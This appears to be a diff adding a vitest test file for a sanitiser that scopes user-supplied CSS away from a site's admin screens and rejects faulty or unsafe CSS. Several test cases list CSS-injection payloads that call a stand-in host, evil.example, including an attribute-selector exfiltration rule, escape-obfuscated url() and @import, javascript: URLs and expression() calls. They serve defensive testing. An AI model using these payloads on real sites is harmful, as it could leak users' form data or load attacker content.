@@ -1,0 +1,194 @@
+import * as tokenizer from 'css-tree/tokenizer';
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { TOKEN } from './css-tokens.js';
+import { cssFaults, LONGEST_CSS, scopedCss } from './safe-css.js';
+
+const GUARD = ':not(:where([data-admin],[data-admin] *,.cr-admin,.cr-admin *,:has([data-admin],.cr-admin)))';
+/** Scoped CSS on one line, with a short sign for what is put into each selector. */
+const short = (css: string) => scopedCss(css).replaceAll(GUARD, '¬').replaceAll('\n', '');
+
+test('the types of pieces are those of the tokenizer', () => {
+  const theirs = tokenizer as unknown as Record<string, number>;
+  expect(TOKEN).toMatchObject({ ident: theirs.Ident, url: theirs.Url, string: theirs.String });
+  expect(TOKEN).toMatchObject({ function: theirs.Function, comment: theirs.Comment, cdc: theirs.CDC });
+});
+
+describe('every selector leaves the admin screens out, and keeps what it says', () => {
+  test.each([
+    ['html, body,:root , *{color:red}', 'html¬, body¬,:root¬ , *¬{color:red;}'],
+    ['a::before,a:after,a:first-line{x:y}', 'a¬::before,a¬:after,a¬:first-line{x:y;}'],
+    ['a::part(x):hover::before{x:y}', 'a¬::part(x):hover::before{x:y;}'],
+    ['::selection{x:y}', '¬::selection{x:y;}'],
+    ['.a > .b + .c ~ .d e{x:y}', '.a > .b + .c ~ .d e¬{x:y;}'],
+    ['a:is(.b, .c > d):not([e="f,g"]){x:y}', 'a:is(.b, .c > d):not([e="f,g"])¬{x:y;}'],
+    [
+      '.a{color:red;&:hover{x:y} > .b, + c{x:y} .d{x:y}}',
+      '.a¬{color:red;&:hover¬{x:y;}> .b¬, + c¬{x:y;}.d¬{x:y;}}',
+    ],
+    ['.a{b:hover{x:y}}', '.a¬{b:hover¬{x:y;}}'],
+    ['.a{@media print{x:y;b{x:y}}}', '.a¬{@media print{x:y;b¬{x:y;}}}'],
+    ['@media (400px<=width){@supports (x:y){a{x:y}}}', '@media (400px<=width){@supports (x:y){a¬{x:y;}}}'],
+    ['@container side (width > 9em){a{x:y}}', '@container side (width > 9em){a¬{x:y;}}'],
+    ['@layer a, b;@layer a{a{x:y}}', '@layer a, b;@layer a{a¬{x:y;}}'],
+    ['@scope (.a) to (.b){:scope{x:y}img{x:y}}', '@scope (.a) to (.b){:scope¬{x:y;}img¬{x:y;}}'],
+    ['@starting-style{a{x:y}}', '@starting-style{a¬{x:y;}}'],
+    ['@keyframes fade{from{x:y}50.5%,to{x:y}}', '@keyframes fade{from{x:y;}50.5%,to{x:y;}}'],
+    [
+      '@font-face{font-family:"Own";src:url(/own.woff2) format("woff2")}',
+      '@font-face{font-family:"Own";src:url(/own.woff2) format("woff2");}',
+    ],
+    ['.a/* , */.b{x/**/:y}', '.a/**/.b¬{x/**/:y;}'],
+    ['a{--open:{b:c};--empty:;x:y!important}', 'a¬{--open:{b:c};--empty:;x:y!important;}'],
+    ['a{b:if(style(--x:1):red;else:blue)}', 'a¬{b:if(style(--x:1):red;else:blue);}'],
+    [
+      "a{background:url(/a.png),url('data:image/png;base64,AA=='),url(#mask)}",
+      "a¬{background:url(/a.png),url('data:image/png;base64,AA=='),url(#mask);}",
+    ],
+    ['', ''],
+  ])('%s', (css, scoped) => {
+    expect(cssFaults(css)).toEqual([]);
+    expect(short(css)).toBe(scoped);
+  });
+});
+
+describe('a fault is named with its place, and nothing of CSS with faults is used', () => {
+  test.each([
+    ['a{color:red}\n\n  b { colour }', 3, 7, "'colour' is no declaration: the : is missing"],
+    ['a{color:red', 1, 2, "'{' is never closed"],
+    ['a{}\r\n}b{}', 2, 1, "This '}' closes nothing that is open"],
+    ['a{b:c};', 1, 7, 'A ; has no place between rules'],
+    ['a', 1, 1, "'a' is no rule: the { is missing"],
+    ['{x:y}', 1, 1, "A selector is missing in ''"],
+    ['a,,b{x:y}', 1, 1, "A selector is missing in 'a,,b'"],
+    ['a >{x:y}', 1, 1, "The selector 'a >' ends too early"],
+    ['.1a{x:y}', 1, 2, 'Identifier is expected'],
+    ['a{color: red\nb{x:y}}', 1, 9, 'Identifier is expected'],
+    [
+      '@import "x.css";',
+      1,
+      1,
+      '@import would fetch CSS that nobody has checked; put the rules themselves here',
+    ],
+    ['@page{margin:0}', 1, 1, '@page has no place here'],
+    ['@media print;', 1, 1, '@media needs a block: { … }'],
+    ['@keyframes x{a{x:y}}', 1, 14, "A step of an animation is from, to or a percentage, not 'a'"],
+    ['@keyframes cr-in{from{x:y}}', 1, 1, 'The name cr-in is used by the site itself; take another'],
+    ['@property --cr-ink{syntax:"*"}', 1, 1, 'The name --cr-ink is used by the site itself; take another'],
+    [
+      '@layer croupier.tokens{a{x:y}}',
+      1,
+      1,
+      'The name croupier.tokens is used by the site itself; take another',
+    ],
+    ['@font-face{font-family:"Croupier Title"}', 1, 1, 'is used by the site itself; take another'],
+    ['@keyframes \\63r-in{from{x:y}}', 1, 1, 'A name must be written without \\ and <'],
+    ['a{b:"x\ny"}', 1, 5, 'This quotation is not closed on its line'],
+    ['a{b:c}/* x', 1, 7, 'This comment is never closed'],
+    ['a{b:url(/x', 1, 5, 'This address is never closed'],
+    ['@layer "x', 1, 8, 'This quotation is never closed'],
+    ['/* </style> */', 1, 4, 'HTML has no place in CSS'],
+    [`${'a{'.repeat(60)}${'}'.repeat(60)}`, 1, 82, 'Brackets stand in each other more than 40 deep'],
+  ])('%j', (css, line, column, message) => {
+    expect(cssFaults(css)[0]).toEqual({ line, column, message: expect.stringContaining(message) });
+    expect(scopedCss(css)).toBe('');
+  });
+
+  test('at most 20 are told, and CSS that is too long is not even read', () => {
+    expect(cssFaults('a{b}'.repeat(100))).toHaveLength(20);
+    expect(cssFaults(' '.repeat(LONGEST_CSS + 1))).toHaveLength(1);
+  });
+});
+
+describe('no address leads away from the site', () => {
+  test.each([
+    'a{background:url(//evil.example/x)}',
+    'a{background:url("https://evil.example/x")}',
+    "a{background:URL('http://evil.example')}",
+    'a{background:url( \thttps://evil.example )}',
+    'a{background:url(/\\evil.example)}',
+    'a{background:url(\\2f\\2f evil.example)}',
+    'a{background:\\75rl(//evil.example)}',
+    'a{background:u\\72l("//evil.example")}',
+    'a{background:url(x.png)}',
+    'a{background:url()}',
+    'a{background:url("data:text/html,<b>")}',
+    'a{background:url(javascript:alert(1))}',
+    'a{background:url("java\\\nscript:alert(1)")}',
+    'a{background:image-set("//evil.example" 1x)}',
+    'a{background:-webkit-image-set(url(//evil.example) 1x)}',
+    'a{background:image-set(var(--x) 1x)}',
+    'a{background:src(var(--x))}',
+    'a{background:image-set(attr(data-x type(<string>)) 1x)}',
+    'a{--x:url(//evil.example)}',
+    'a{--x:{b:url(//evil.example)}}',
+    'input[value^="a"]{background:url(//evil.example/a)}',
+    '@font-face{font-family:x;src:url(//evil.example/x.woff2)}',
+    '@property --x{syntax:"<url>";inherits:false;initial-value:url(//evil.example)}',
+    '@supports (background:url(//evil.example)){a{b:c}}',
+    '@import url(//evil.example);',
+    '@im\\70ort "//evil.example";',
+    '@namespace x "//evil.example";',
+    '@media print{a{cursor:url(//evil.example),auto}}',
+    'a{width:expression(alert(1))}',
+    'a{content:image("//evil.example")}',
+    'a{background:cross-fade("//evil.example", red)}',
+  ])('%s', (css) => {
+    expect(cssFaults(css).length).toBeGreaterThan(0);
+    expect(scopedCss(css)).toBe('');
+  });
+});
+
+test('what is written has no faults and can end no style element, whatever it is put together from', () => {
+  const piece = fc.constantFrom(
+    ...[
+      'a',
+      '.b',
+      ':hover',
+      '::before',
+      '&',
+      '>',
+      ',',
+      ' ',
+      '{',
+      '}',
+      ';',
+      'x:y',
+      '--z:',
+      '(',
+      ')',
+      '[c]',
+      '"',
+      "'",
+    ],
+    ...[
+      '/*',
+      '*/',
+      '@media print',
+      '@layer q',
+      '@keyframes k',
+      'from',
+      'url(',
+      '//evil.example',
+      '/p',
+      '\\',
+      '<',
+      '/',
+      '!',
+    ],
+    ...['a{x:y}', '.b > c{x:y}', '@media print{', 'a{x:"<\\/"}', '@scope (.s){'],
+  );
+  let used = 0;
+  fc.assert(
+    fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => {
+      const css = pieces.join('');
+      const scoped = scopedCss(css);
+      if (scoped === '') return;
+      used++;
+      expect(cssFaults(scoped)).toEqual([]);
+      expect(scoped).not.toMatch(/<[/!]|\burl\((?!\/p)/);
+    }),
+    { numRuns: 3_000 },
+  );
+  expect(used).toBeGreaterThan(50);
+});
